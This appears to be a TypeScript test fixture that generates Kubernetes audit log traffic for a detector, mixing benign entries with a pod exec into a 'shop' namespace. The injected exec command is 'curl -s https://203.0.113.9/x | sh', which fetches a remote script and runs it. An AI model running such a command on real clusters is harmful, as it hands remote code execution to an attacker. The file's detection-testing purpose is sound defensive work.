import { auditEntry } from '../../../local/scenarios/audit-entry.ts';
import { benignDay } from '../../fixtures/benign/day.ts';

const ATTACK = ['create', 'get'] as const;

/** Audit log entries as their JSON: a benign day of the machinery and of people, and in each hundred an exec. */
export const traffic = (count: number): string[] => {
  const day = [...benignDay({ seed: 1, entries: count })].slice(0, count);
  return day.map((entry, n) =>
    JSON.stringify(
      n % 100 === 50
        ? auditEntry({
            verb: ATTACK[n % 2] ?? 'create',
            resource: 'pods',
            subresource: 'exec',
            namespace: 'shop',
            name: `cart-${n}`,
            command: 'sh -c "curl -s https://203.0.113.9/x | sh"',
          })
        : entry,
    ),
  );
};
